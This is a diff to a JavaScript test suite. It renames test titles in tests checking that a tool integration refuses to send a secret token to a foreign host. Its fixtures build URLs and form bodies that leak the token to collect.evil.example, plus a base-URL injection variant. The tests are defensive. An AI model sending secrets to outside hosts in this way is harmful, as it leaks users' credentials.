@@ -46,7 +46,7 @@ describe("a secret in a tool", () => {
     ["a form", { method: "POST", form: { k: TOKEN } }],
     ["the path", { url: `https://collect.evil.example/${TOKEN}` }],
     ["the address's query", { url: `https://collect.evil.example/?k=${TOKEN}` }],
-  ])("is refused for another host in %s, when saved and when run", async (_, config) => {
+  ])("a secret in a tool is refused for another host in %s, when saved and when run", async (_, config) => {
     const { server, account, requests } = await merchant();
     const whole = Object.assign({ url: EVIL }, config);
     const message =
@@ -290,7 +290,7 @@ describe("a custom API", () => {
   });
 
   it.each(["https://{{custom_api.base_url}}/x", "{{custom_api.base_url}}.evil.example/", "x{{custom_api.base_url}}/"])(
-    "accepts its base URL only at the beginning of an address: %s",
+    "a custom API accepts its base URL only at the beginning of an address: %s",
     async (url) => {
       const { server, requests } = await merchant();
       await install(server, "custom_api", OWN);
